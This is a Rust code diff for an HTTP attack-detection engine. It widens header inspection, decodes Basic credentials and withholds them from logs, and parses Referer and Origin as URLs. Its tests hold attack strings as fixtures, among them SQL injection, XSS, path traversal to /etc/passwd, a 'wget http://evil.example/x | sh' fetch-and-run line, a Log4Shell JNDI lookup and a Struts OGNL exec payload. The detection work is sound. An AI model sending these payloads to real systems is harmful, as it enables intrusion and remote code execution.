@@ -175,8 +175,8 @@ pub struct DetectConfig {
     pub ban_threshold: u32,
     /// Total score at which a request is reported (below the ban threshold).
     pub alert_threshold: u32,
-    /// Extra header names (case-insensitive) to inspect besides the built-in set
-    /// (User-Agent, Referer, Cookie, X-Forwarded-For and other `X-*` headers).
+    /// Header names (case-insensitive) to inspect although built-in rules skip them
+    /// (every header is inspected except `Host`).
     pub extra_headers: Vec<String>,
     /// Deepest JSON nesting walked in bodies.
     pub max_json_depth: u32,
@@ -267,6 +267,16 @@ impl Sink<'_> {
             return;
         }
         let score = raw_score.saturating_mul(dc.weight) / 100;
+        // Credentials (decoded Basic user names and passwords, tokens) stay out of
+        // logs: the rule and location say enough, and a false positive must not
+        // leak an innocent user's password.
+        let evidence = |text: &str, at: usize| {
+            if is_credentials(location) {
+                CREDENTIALS_WITHHELD.to_owned()
+            } else {
+                evidence(text, at)
+            }
+        };
         // One finding per rule and location is enough for scoring and reporting;
         // keep the strongest.
         if let Some(v) = self
@@ -288,6 +298,17 @@ impl Sink<'_> {
             evidence: evidence(text, at),
         });
     }
+}
+
+/// Evidence of findings in credentials.
+const CREDENTIALS_WITHHELD: &str = "(credentials withheld)";
+
+/// Headers carrying credentials (lower case).
+const CREDENTIAL_HEADERS: &[&str] = &["authorization", "proxy-authorization"];
+
+/// Is `loc` a header carrying credentials?
+fn is_credentials(loc: &Location) -> bool {
+    matches!(loc, Location::Header(h) if CREDENTIAL_HEADERS.iter().any(|c| h.eq_ignore_ascii_case(c)))
 }
 
 /// Excerpt of at most ~80 bytes around `at`, with long opaque tokens masked so that
@@ -497,10 +518,13 @@ impl Engine {
         }
     }
 
+    /// Whether a header's value reaches the detectors. Every header does (attacks
+    /// are sent in `X-Request-Id`, `Accept-Language`, `Range`, `Content-Type`
+    /// (Struts' OGNL), `If-None-Match` as well as in `User-Agent`) except those on
+    /// the short list below, each for a false positive judging it is known to
+    /// cause. (Cookies are judged pair by pair, credentials decoded, Referer and
+    /// Origin as URLs: see [`Engine::extract`].)
     fn wants_header(&self, name: &str) -> bool {
-        // Standard headers whose values are set by browsers and HTTP stacks (and
-        // secrets) are skipped; everything else, including application-specific
-        // headers, reaches the detectors.
         if self
             .extra_headers
             .iter()
@@ -508,52 +532,13 @@ impl Engine {
         {
             return true;
         }
-        // Header names are short; a stack copy avoids an allocation per header.
-        let mut buf = [0u8; 64];
-        let Some(dst) = buf.get_mut(..name.len()) else {
-            return true;
-        };
-        dst.copy_from_slice(name.as_bytes());
-        dst.make_ascii_lowercase();
-        let n = std::str::from_utf8(dst).unwrap_or("");
-        !(matches!(
-            n,
-            "host"
-                | "accept"
-                | "accept-encoding"
-                | "accept-language"
-                | "accept-charset"
-                | "connection"
-                | "content-length"
-                | "content-type"
-                | "keep-alive"
-                | "proxy-connection"
-                | "cache-control"
-                | "pragma"
-                | "upgrade-insecure-requests"
-                | "authorization"
-                | "proxy-authorization"
-                | "dnt"
-                | "te"
-                | "upgrade"
-                | "priority"
-                | "content-encoding"
-                | "transfer-encoding"
-                | "if-none-match"
-                | "if-modified-since"
-                | "if-match"
-                | "if-unmodified-since"
-                | "range"
-                | "x-requested-with"
-                | "x-request-id"
-                | "x-correlation-id"
-                | "traceparent"
-                | "tracestate"
-                | "date"
-                | "expect"
-                | "origin"
-                | "cookie"
-        ) || n.starts_with("sec-"))
+        // `Host` names the service itself, and services are reached by internal
+        // names and addresses (`localhost`, `10.0.0.5:8080`, `api.internal`): the
+        // SSRF check, whose job is to flag exactly those names in values, would
+        // score every request sent to an internal service. Host-header attacks
+        // (absolute-form mismatches, duplicate or malformed Host) are the protocol
+        // checks' job.
+        !name.eq_ignore_ascii_case("host")
     }
 
     /// Extracts and normalizes every inspected string of the request; `path` is the
@@ -590,20 +575,20 @@ impl Engine {
                         true,
                     );
                 }
-            } else if self.wants_header(name) {
-                let referer = name.eq_ignore_ascii_case("referer");
-                let is_value = !referer && !name.eq_ignore_ascii_case("user-agent");
-                push(
-                    &mut v,
-                    Location::Header(name.clone()),
-                    decode::normalize_cow(value, false),
-                    is_value,
-                );
-                // The referring URL's parameters are the same attacker-chosen values
-                // as this request's (and reflected by analytics and logs): inspect
-                // them one by one too.
-                if referer && let Some((_, q)) = value.split_once('?') {
-                    push_pairs(&mut v, q, Location::Header(name.clone()));
+            } else if !self.wants_header(name) {
+            } else if is_credentials(&Location::Header(name.clone())) {
+                push_credentials(&mut v, value, Location::Header(name.clone()));
+            } else {
+                let loc = Location::Header(name.clone());
+                let url_header =
+                    name.eq_ignore_ascii_case("referer") || name.eq_ignore_ascii_case("origin");
+                if url_header && let Some(url) = split_url(value) {
+                    push_url(&mut v, url, &loc);
+                } else {
+                    // A Referer or Origin that is no URL was not written by a browser:
+                    // judge it whole, like any other header.
+                    let is_value = !url_header && !name.eq_ignore_ascii_case("user-agent");
+                    push(&mut v, loc, decode::normalize_cow(value, false), is_value);
                 }
             }
         }
@@ -650,6 +635,92 @@ fn push<'a>(v: &mut Vec<Input<'a>>, location: Location, text: Cow<'a, str>, is_v
             text,
             is_value,
         });
+    }
+}
+
+/// Pushes the credentials of an `Authorization` or `Proxy-Authorization` value as
+/// values: Basic credentials decoded, the user name and the password apart (SQL
+/// injection in a user name is a classic: the back end looks the user up); any
+/// other scheme's credentials (a bearer token) as they are.
+fn push_credentials<'a>(v: &mut Vec<Input<'a>>, value: &'a str, loc: Location) {
+    use base64::Engine as _;
+    use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
+    // Clients are sloppy with padding; the server decodes what it gets.
+    const BASIC: GeneralPurpose = GeneralPurpose::new(
+        &base64::alphabet::STANDARD,
+        GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
+    );
+    let value = value.trim();
+    let (scheme, creds) = value
+        .split_once(char::is_whitespace)
+        .map_or(("", value), |(s, c)| (s, c.trim()));
+    if scheme.eq_ignore_ascii_case("basic")
+        && let Ok(bytes) = BASIC.decode(creds)
+    {
+        let text = String::from_utf8_lossy(&bytes);
+        let (user, password) = text.split_once(':').unwrap_or((&text, ""));
+        push(v, loc.clone(), decode::normalize(user, false).into(), true);
+        push(v, loc, decode::normalize(password, false).into(), true);
+        return;
+    }
+    push(v, loc, decode::normalize_cow(creds, false), true);
+}
+
+/// A URL split into the part before the query, the query and the fragment.
+struct Url<'a> {
+    base: &'a str,
+    query: Option<&'a str>,
+    fragment: Option<&'a str>,
+}
+
+/// Splits an absolute (`scheme://…`) or origin-relative (`/…`) URL, as browsers
+/// send in Referer and Origin; `None` for anything else.
+fn split_url(value: &str) -> Option<Url<'_>> {
+    let value = value.trim();
+    let absolute = value.split_once("://").is_some_and(|(scheme, _)| {
+        scheme
+            .bytes()
+            .next()
+            .is_some_and(|b| b.is_ascii_alphabetic())
+            && scheme
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
+    });
+    if !absolute && !value.starts_with('/') {
+        return None;
+    }
+    let (rest, fragment) = match value.split_once('#') {
+        Some((r, f)) => (r, Some(f)),
+        None => (value, None),
+    };
+    let (base, query) = match rest.split_once('?') {
+        Some((b, q)) => (b, Some(q)),
+        None => (rest, None),
+    };
+    Some(Url {
+        base,
+        query,
+        fragment,
+    })
+}
+
+/// Pushes a URL header (Referer, Origin) as a URL: the scheme, host and path as
+/// one string; the query parameters one by one, as this request's own query
+/// parameters are (they are as attacker-chosen, and reflected by analytics and
+/// logs); the fragment as a value. The query is never judged whole: `a=1&sort=desc`
+/// is a parameter list, not a shell command chain.
+fn push_url<'a>(v: &mut Vec<Input<'a>>, url: Url<'a>, loc: &Location) {
+    push(
+        v,
+        loc.clone(),
+        decode::normalize_cow(url.base, false),
+        false,
+    );
+    if let Some(q) = url.query {
+        push_pairs(v, q, loc.clone());
+    }
+    if let Some(f) = url.fragment {
+        push(v, loc.clone(), decode::normalize_cow(f, true), true);
     }
 }
 
@@ -862,6 +933,154 @@ mod tests {
         let e = evidence("session=abcdefghijklmnopqrstuvwxyz0123 ' or 1=1", 0);
         assert!(e.contains("abcd***"), "{e}");
         assert!(!e.contains("wxyz"));
+    }
+
+    /// Common query parameter names, many of them also Unix commands (`sort`, `id`,
+    /// `date`, `type`, `time`, `head`, `find`, `file`, `host`, `watch`, ...).
+    const PARAM_NAMES: &[&str] = &[
+        "sort", "id", "type", "date", "time", "page", "limit", "offset", "order", "from", "to",
+        "start", "end", "format", "lang", "view", "tab", "filter", "status", "category", "user",
+        "name", "file", "host", "source", "set", "ref", "mode", "head", "more", "less", "find",
+        "watch", "top", "cut", "make", "at", "call", "for", "if", "env", "w", "who", "cat", "tail",
+        "stat", "dir", "ps", "ls", "rm", "mv", "cp", "ping", "echo", "kill", "service", "route",
+    ];
+
+    /// A browser app user: every API call carries the page it was made from as
+    /// Referer, with the page's query (`&sort=`, `&id=`, ...). Twenty calls must not
+    /// add a single point.
+    #[test]
+    fn referer_and_origin_are_urls_of_this_site() {
+        for (i, chunk) in PARAM_NAMES.chunks(4).enumerate() {
+            let page: Vec<String> = chunk.iter().map(|n| format!("{n}=v{i}")).collect();
+            let raw = format!(
+                "GET /api/v1/items/{i} HTTP/1.1\r\nHost: app.example\r\n\
+                 Origin: https://app.example\r\n\
+                 Referer: https://app.example/list?page={i}&{}&date=2024-01-0{}#top\r\n\r\n",
+                page.join("&"),
+                i % 9 + 1,
+            );
+            let (v, a) = run(&raw);
+            assert!(v.is_empty(), "{raw}: {v:?}");
+            assert_eq!(a, Action::Allow);
+        }
+        // The same parameters in a body's text (a URL pasted in a JSON string).
+        let url = format!("https://app.example/list?x=1&{}=1", PARAM_NAMES.join("=1&"));
+        let body = format!("{{\"link\":\"{url}\"}}");
+        let raw = format!(
+            "POST /api/v1/notes HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
+            body.len()
+        );
+        let (v, _) = run(&raw);
+        assert!(v.iter().all(|v| v.category != Category::Cmdi), "{v:?}");
+    }
+
+    /// Attacks in a Referer or Origin are still found: in the referring page's
+    /// parameters (as if they were this request's), in its path, and in values that
+    /// are no URL at all.
+    #[test]
+    fn attacks_in_referer_and_origin() {
+        for (h, val) in [
+            (
+                "Referer",
+                "https://app.example/list?sort=desc&q=;cat /etc/passwd",
+            ),
+            ("Referer", "https://app.example/list?sort=desc%7Cid"),
+            ("Referer", "https://app.example/?id=1' or '1'='1"),
+            (
+                "Referer",
+                "https://app.example/?id=1 union select password from users--",
+            ),
+            (
+                "Referer",
+                "https://app.example/?q=<script>alert(1)</script>",
+            ),
+            ("Referer", "https://app.example/../../../../etc/passwd"),
+            ("Referer", "; cat /etc/passwd"),
+            ("Referer", "1' or '1'='1"),
+            ("Origin", "https://app.example?x=$(id)"),
+            ("Origin", "null; wget http://evil.example/x | sh"),
+            ("Origin", "' or 1=1--"),
+        ] {
+            let raw =
+                format!("GET /api/v1/items HTTP/1.1\r\nHost: app.example\r\n{h}: {val}\r\n\r\n");
+            let (v, a) = run(&raw);
+            assert_eq!(a, Action::Ban, "{h}: {val}: {v:?}");
+        }
+    }
+
+    /// What browsers and HTTP stacks send in the headers that used to be skipped:
+    /// judged now, and still nothing to report.
+    #[test]
+    fn browser_headers_are_judged_and_clean() {
+        use base64::Engine as _;
+        let basic = |c: &str| base64::engine::general_purpose::STANDARD.encode(c);
+        let headers = [
+            "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7".to_owned(),
+            "Accept-Encoding: gzip, deflate, br, zstd".to_owned(),
+            "Accept-Language: zh-CN,zh;q=0.9,en;q=0.8,en-GB;q=0.7,en-US;q=0.6".to_owned(),
+            "Cache-Control: no-cache, no-store, must-revalidate".to_owned(),
+            "Content-Type: multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW".to_owned(),
+            "Content-Type: multipart/form-data; boundary=--------------------------123456789012345678901234".to_owned(),
+            "If-None-Match: \"33a64df551425fcc55e4d42a148795d9f25f89d4\", W/\"0815\"".to_owned(),
+            "If-Modified-Since: Wed, 21 Oct 2015 07:28:00 GMT".to_owned(),
+            "Range: bytes=200-1000, 2000-6576, 19000-".to_owned(),
+            "Range: bytes=-500".to_owned(),
+            "X-Request-Id: f058ebd6-02f7-4d3f-942e-904344e8cde5".to_owned(),
+            "Traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01".to_owned(),
+            "Tracestate: congo=t61rcWkgMzE,rojo=00f067aa0ba902b7".to_owned(),
+            "Sec-Ch-Ua: \"Chromium\";v=\"118\", \"Google Chrome\";v=\"118\", \"Not=A?Brand\";v=\"99\"".to_owned(),
+            "Sec-Fetch-Site: same-origin".to_owned(),
+            "Priority: u=1, i".to_owned(),
+            "Keep-Alive: timeout=5, max=1000".to_owned(),
+            "X-Requested-With: XMLHttpRequest".to_owned(),
+            "Origin: https://app.example".to_owned(),
+            "Origin: null".to_owned(),
+            format!("Authorization: Basic {}", basic("alice:correct horse battery staple")),
+            format!("Authorization: Basic {}", basic("o'brien@example.com:Tr0ub4dor&3")),
+            format!("Authorization: basic {}", basic("svc-backup:x7#Kq!p2").trim_end_matches('=')),
+            "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI3In0.c2ln".to_owned(),
+            "Proxy-Authorization: Basic dXNlcjpwYXNz".to_owned(),
+        ];
+        for h in &headers {
+            let raw = format!("GET /api/v1/items HTTP/1.1\r\nHost: localhost\r\n{h}\r\n\r\n");
+            let (v, a) = run(&raw);
+            assert!(v.is_empty(), "{h}: {v:?}");
+            assert_eq!(a, Action::Allow);
+        }
+    }
+
+    /// Injections in the headers that used to be skipped are found; in credentials
+    /// without showing them.
+    #[test]
+    fn attacks_in_formerly_skipped_headers() {
+        use base64::Engine as _;
+        let basic = |c: &str| base64::engine::general_purpose::STANDARD.encode(c);
+        let attacks = [
+            "X-Request-Id: 1' or '1'='1".to_owned(),
+            "X-Request-Id: ${jndi:ldap://evil.example/a}".to_owned(),
+            "X-Correlation-Id: ;cat /etc/passwd".to_owned(),
+            "Accept-Language: en-US,en;q=0.9' union select password from users--".to_owned(),
+            "Accept-Language: ../../../../etc/passwd".to_owned(),
+            "Range: bytes=0-1;cat /etc/passwd".to_owned(),
+            "Content-Type: %{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}".to_owned(),
+            "If-None-Match: <script>alert(document.cookie)</script>".to_owned(),
+            format!("Authorization: Basic {}", basic("admin' or '1'='1' --:x")),
+            format!("Authorization: Basic {}", basic("admin:' or 1=1--")),
+            format!("Authorization: Basic {}", basic("admin:x;cat /etc/passwd").trim_end_matches('=')),
+            format!("Proxy-Authorization: Basic {}", basic("admin' union select 1,2--:x")),
+            "Authorization: Bearer ' or 1=1--".to_owned(),
+        ];
+        for h in &attacks {
+            let raw = format!("GET /api/v1/items HTTP/1.1\r\nHost: localhost\r\n{h}\r\n\r\n");
+            let (v, a) = run(&raw);
+            assert_eq!(a, Action::Ban, "{h}: {v:?}");
+            if h.contains("uthorization") {
+                assert!(
+                    v.iter().all(|v| v.evidence == CREDENTIALS_WITHHELD),
+                    "{v:?}"
+                );
+            }
+        }
     }
 
     #[test]
